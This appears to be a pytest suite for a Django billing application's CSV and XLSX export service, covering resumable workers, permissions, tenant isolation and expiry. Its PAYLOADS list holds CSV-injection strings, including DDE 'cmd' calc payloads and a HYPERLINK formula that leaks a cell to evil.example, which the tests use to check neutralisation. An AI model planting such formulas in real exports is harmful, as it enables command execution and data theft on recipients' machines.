"""Exports: what was listed stands in the file, whatever happened to the worker, and nobody else gets it."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from unittest.mock import patch

import pytest
from django.core.files.storage import storages
from openpyxl import load_workbook
from pytest_django.fixtures import Settings

from allsquare.billing.models import Invoice
from allsquare.connect.errors import ExportNotReady, ExportUnknown, TooManyExports
from allsquare.connect.models import Export
from allsquare.connect.rows import harmless
from allsquare.connect.services import run_export as running
from allsquare.connect.services.expire_exports import expire_exports
from allsquare.connect.services.open_export import open_export
from allsquare.connect.services.resume_export import resume_export
from allsquare.connect.services.run_export import run_export
from allsquare.connect.services.start_export import start_export
from allsquare.connect.services.stop_export import stop_export
from allsquare.connect.sources import of_list
from allsquare.connect.states import ExportState
from allsquare.core import clock, listing
from allsquare.core.actor import Actor
from allsquare.core.errors import InvalidInput, NotFound, PermissionDenied
from allsquare.core.ids import new_id
from allsquare.core.models import Event
from allsquare.customers.models import Customer
from allsquare.identity.roles import Role
from allsquare.insights import event_list
from allsquare.insights.customer_events import subjects_around_customer
from tests.factories import make_customer, make_organization, member_actor
from tests.web.console.world import World

#: What a spreadsheet might run (OWASP, CSV injection), and what must come through untouched.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(1)",
    '";=1+1;"',
    "|calc",
    "%0A=1",
]
HARMLESS = ["Grace & Co", "1-2", "a=b", "O'Brien", 'Ä, "quoted"\nline two']


@pytest.fixture
def world(db: None, settings: Settings, tmp_path: Path) -> World:
    settings.HOME = tmp_path
    location = str(tmp_path / "exports")
    settings.STORAGES = {
        **settings.STORAGES,
        "exports": {**settings.STORAGES["exports"], "OPTIONS": {"location": location}},
    }
    return World()


@pytest.fixture
def owner(world: World) -> Actor:
    return member_actor(world.organization)


def start(world: World, actor: Actor, name: str = "customers", form: str = "csv", **more: object) -> Export:
    fields: dict[str, object] = {"parameters": {}, "key": str(new_id()), **more}
    return start_export(
        organization=world.organization,
        list_name=name,
        file_format=form,
        actor=actor,
        **fields,  # type: ignore[arg-type]  # a test's shorthand
    )


def content(world: World, actor: Actor, export: Export) -> bytes:
    _export, file = open_export(organization=world.organization, export_id=export.id, actor=actor)
    with file:
        return bytes(file.read())


def csv_of(world: World, actor: Actor, export: Export) -> list[list[str]]:
    assert run_export(organization=world.organization, export_id=export.id)
    text = content(world, actor, export).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_csv_reads_back_as_it_was_listed(world: World, owner: Actor) -> None:
    invoice = world.issued()
    world.draft(price="12.34")
    rows = csv_of(world, owner, start(world, owner, "invoices", parameters={"sort": ["created"]}))
    assert rows[0] == [
        "Number", "Customer", "State", "Issued", "Due", "Total", "Open", "Currency of the amounts",
    ]  # fmt: skip
    assert rows[1] == [
        invoice.number, "Grace Buyer", "issued", str(invoice.issued_on), str(invoice.due_on), "119.00", "119.00", "EUR",
    ]  # fmt: skip
    assert rows[2][0] == ""
    assert rows[2][5:] == ["14.68", "", "EUR"]  # with tax


def test_an_xlsx_has_exact_numbers_and_real_dates(world: World, owner: Actor) -> None:
    invoice = world.issued()
    yen = make_customer(world.organization, name="Yen", currency="JPY")
    columns = {"columns": ["number,issued,total,created"], "sort": ["created"]}
    export = start(world, owner, "invoices", "xlsx", parameters=columns)
    assert run_export(organization=world.organization, export_id=export.id)
    sheet = load_workbook(io.BytesIO(content(world, owner, export))).active
    assert sheet is not None
    heads, row = list(sheet.iter_rows())
    assert [cell.value for cell in heads] == [
        "Number", "Issued", "Total", "Currency of the amounts", "Created (Europe/Berlin)",
    ]  # fmt: skip
    assert (row[0].value, row[2].value, row[2].number_format) == (invoice.number, 119, "#,##0.00")
    issued, created = row[1].value, row[4].value
    assert isinstance(issued, datetime)
    assert issued.date() == invoice.issued_on
    local = clock.local(world.organization, invoice.created_at)
    assert created == local.replace(tzinfo=None, microsecond=0)
    assert yen.currency == "JPY"


def test_an_amount_beyond_what_a_float_holds_keeps_every_digit(world: World, owner: Actor) -> None:
    minor = 9_007_199_254_740_993  # the first whole number that a float cannot hold
    drafts = Invoice.objects.filter(organization=world.organization, id=world.draft().id)
    drafts.update(net_minor=minor, tax_minor=0, total_minor=minor)
    export = start(world, owner, "invoices", "xlsx", parameters={"columns": ["net"]})
    assert run_export(organization=world.organization, export_id=export.id)
    data = content(world, owner, export)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("xl/worksheets/sheet1.xml").decode()
    assert f"<v>{Decimal('90071992547409.93')}</v>" in text


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_text_is_a_formula_and_none_is_lost(world: World, owner: Actor, form: str) -> None:
    Customer.objects.filter(organization=world.organization).delete()
    for number, text in enumerate([*PAYLOADS, *HARMLESS]):
        make_customer(world.organization, name=f"{number:02}", city=text)
    export = start(world, owner, form=form, parameters={"columns": ["name", "city"]})
    if form == "csv":
        cells = [row[1] for row in csv_of(world, owner, export)[1:]]
    else:
        assert run_export(organization=world.organization, export_id=export.id)
        sheet = load_workbook(io.BytesIO(content(world, owner, export))).active
        assert sheet is not None
        found = [row[1] for row in sheet.iter_rows(min_row=2)]
        assert {cell.data_type for cell in found} == {"s"}
        cells = [str(cell.value) for cell in found]
    assert len(cells) == len(PAYLOADS) + len(HARMLESS)
    for written, typed in zip(cells, [*PAYLOADS, *HARMLESS], strict=True):
        expected = harmless(typed)
        same = (expected, expected.replace("\r", "\n"), expected.replace("\r", "_x000D_"))
        assert written in same
        assert written.lstrip(" \u00a0")[:1] not in tuple("=+-@\t\r|%＝＋－＠")
    for text in HARMLESS:
        assert text in cells


def test_filters_and_chosen_rows_are_kept(world: World, owner: Actor) -> None:
    wanted, other = world.draft(), world.issued()
    rows = csv_of(world, owner, start(world, owner, "invoices", parameters={"state": ["draft"]}))
    assert len(rows) == 2
    chosen = csv_of(world, owner, start(world, owner, "invoices", ids=[other.id]))
    assert [row[0] for row in chosen[1:]] == [other.number]
    assert wanted.number is None


def test_this_month_is_that_in_which_the_file_was_asked_for(
    world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    invoice = world.issued()
    asked = {"issued": ["this_month"], "due_from": ["2020-01-01"], "due": ["today"], "state": ["issued"]}
    export = start(world, owner, "invoices", parameters=asked)
    assert "issued" not in export.parameters
    assert (export.parameters["due_from"], export.parameters["state"]) == (["2020-01-01"], ["issued"])
    now, later = clock.now, timedelta(days=40)
    monkeypatch.setattr(clock, "now", lambda organization: now(organization) + later)
    assert [row[0] for row in csv_of(world, owner, export)[1:]] == [invoice.number]


def test_what_a_filter_has_to_ask_it_asks_once_for_a_file(
    world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    world.paid(world.issued())
    monkeypatch.setattr(running, "BATCH", 2)
    parameters = {"customer": [str(world.customer.id)]}
    export = start(world, owner, "events", parameters=parameters)
    with patch.object(event_list, "subjects_around_customer", wraps=subjects_around_customer) as asked:
        assert len(csv_of(world, owner, export)) > 2 * 2
    assert asked.call_count == 1


def test_a_batch_after_another_loses_and_repeats_nothing(
    world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(running, "BATCH", 3)
    for number in range(10):
        make_customer(world.organization, name=f"C {number}")
    rows = csv_of(world, owner, start(world, owner))
    assert [row[0] for row in rows[1:]] == [*(f"C {number}" for number in range(10)), "Grace Buyer"]
    export = Export.objects.get(organization=world.organization)
    assert (export.rows_done, export.rows_about, export.is_estimate) == (11, 11, False)


class Killed(BaseException):
    """What no code catches: the worker is gone."""


def test_a_killed_worker_s_export_goes_on_from_where_it_was(
    world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(running, "BATCH", 3)
    for number in range(10):
        make_customer(world.organization, name=f"C {number}")
    export = start(world, owner)
    real, calls = listing.read_rows, []

    def read_rows(*given: object, **named: object) -> object:
        calls.append(given)
        if len(calls) == 3:
            raise Killed
        return real(*given, **named)  # type: ignore[arg-type]  # passed on

    with patch.object(of_list, "read_rows", read_rows), pytest.raises(Killed):
        run_export(organization=world.organization, export_id=export.id)
    export.refresh_from_db()
    assert (export.state, export.rows_done) == (ExportState.RUNNING, 6)
    read = len(calls)
    with patch.object(of_list, "read_rows", side_effect=real) as again:
        rows = csv_of(world, owner, export)
    assert again.call_count == 2  # rows 7 to 11, and not the six before
    assert read == 3
    assert [row[0] for row in rows[1:]] == [*(f"C {number}" for number in range(10)), "Grace Buyer"]


def test_on_a_machine_without_the_part_file_it_begins_anew(
    world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch, settings: Settings
) -> None:
    monkeypatch.setattr(running, "BATCH", 3)
    for number in range(5):
        make_customer(world.organization, name=f"C {number}")
    export = start(world, owner)
    Export.objects.filter(id=export.id).update(
        state=ExportState.RUNNING, rows_done=3, bytes_done=999, place="x", run=new_id()
    )
    assert len(csv_of(world, owner, export)) == 7


def test_a_worker_that_was_taken_for_dead_finds_out(
    world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(running, "BATCH", 1)
    make_customer(world.organization)
    export = start(world, owner)
    real = listing.read_rows

    def taken_over(*given: object, **named: object) -> object:
        Export.objects.filter(id=export.id).update(run=new_id())
        return real(*given, **named)  # type: ignore[arg-type]  # passed on

    with patch.object(of_list, "read_rows", taken_over):
        assert run_export(organization=world.organization, export_id=export.id) is None
    export.refresh_from_db()
    assert (export.state, export.rows_done) == (ExportState.RUNNING, 0)


def test_stopped_it_stands_and_goes_on(world: World, owner: Actor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(running, "BATCH", 1)
    for number in range(4):
        make_customer(world.organization, name=f"C {number}")
    export = start(world, owner)
    real, calls = listing.read_rows, []

    def read_rows(*given: object, **named: object) -> object:
        calls.append(given)
        if len(calls) == 3:
            stop_export(organization=world.organization, export_id=export.id, actor=owner)
        return real(*given, **named)  # type: ignore[arg-type]  # passed on

    with patch.object(of_list, "read_rows", read_rows):
        assert run_export(organization=world.organization, export_id=export.id) is None
    export.refresh_from_db()
    assert (export.state, export.rows_done) == (ExportState.STOPPED, 2)
    assert run_export(organization=world.organization, export_id=export.id) is None
    with pytest.raises(ExportNotReady):
        content(world, owner, export)
    resume_export(organization=world.organization, export_id=export.id, actor=owner)
    rows = csv_of(world, owner, export)
    assert [row[0] for row in rows[1:]] == ["C 0", "C 1", "C 2", "C 3", "Grace Buyer"]
    assert run_export(organization=world.organization, export_id=export.id) is None


def test_a_failure_is_told_and_can_be_taken_up_again(world: World, owner: Actor) -> None:
    export = start(world, owner)
    with patch.object(running, "write_file", side_effect=OSError(28, "No space left on device")):
        assert run_export(organization=world.organization, export_id=export.id) is None
    export.refresh_from_db()
    assert (export.state, export.error) == (ExportState.FAILED, "The file could not be written: OSError")
    resume_export(organization=world.organization, export_id=export.id, actor=owner)
    assert len(csv_of(world, owner, export)) == 2


def test_a_second_press_makes_one_export(world: World, owner: Actor) -> None:
    first, second = start(world, owner, key="k"), start(world, owner, key="k")
    assert first.id == second.id
    assert Event.objects.filter(organization_id=world.organization.id, kind="export.started").count() == 1


def test_nonsense_is_refused_by_name(world: World, owner: Actor) -> None:
    with pytest.raises(InvalidInput, match="CSV or XLSX"):
        start(world, owner, form="exe")
    with pytest.raises(NotFound, match="no such list"):
        start(world, owner, "passwords")
    with pytest.raises(InvalidInput, match="no column"):
        start(world, owner, parameters={"columns": ["password"]})
    with pytest.raises(InvalidInput, match="key"):
        start(world, owner, key=" ")


def test_only_so_many_at_once(world: World, owner: Actor) -> None:
    for _number in range(5):
        start(world, owner)
    with pytest.raises(TooManyExports, match="5 exports are under way"):
        start(world, owner)


def test_the_books_are_not_for_those_who_may_not_see_them(world: World, owner: Actor) -> None:
    world.issued()
    clerk = member_actor(world.organization, Role.BILLING_CLERK)
    with pytest.raises(PermissionDenied):
        start(world, clerk, "journal")
    export = start(world, owner, "journal")
    assert len(csv_of(world, owner, export)) == 2
    for act in (open_export, stop_export, resume_export):
        with pytest.raises(PermissionDenied):
            act(organization=world.organization, export_id=export.id, actor=clerk)


def test_another_organization_s_export_is_unknown(world: World, owner: Actor) -> None:
    export = start(world, owner)
    csv_of(world, owner, export)
    other = make_organization()
    stranger = member_actor(other)
    for act in (open_export, stop_export, resume_export):
        with pytest.raises(ExportUnknown):
            act(organization=other, export_id=export.id, actor=stranger)


def test_after_some_days_the_file_is_gone(world: World, owner: Actor) -> None:
    export = start(world, owner)
    csv_of(world, owner, export)
    assert expire_exports() == 0
    export.refresh_from_db()
    assert export.expires_at
    Export.objects.filter(id=export.id).update(expires_at=export.expires_at - timedelta(days=8))
    with pytest.raises(ExportNotReady):
        content(world, owner, export)
    assert expire_exports() == 1
    export.refresh_from_db()
    assert export.state == ExportState.EXPIRED
    assert not storages["exports"].exists(export.stored_as)


def test_who_took_the_file_is_an_event(world: World, owner: Actor) -> None:
    export = start(world, owner)
    csv_of(world, owner, export)
    kinds = Event.objects.filter(organization_id=world.organization.id, subject_id=export.id).order_by("id")
    assert list(kinds.values_list("kind", flat=True)) == [
        "export.started",
        "export.finished",
        "export.fetched",
    ]
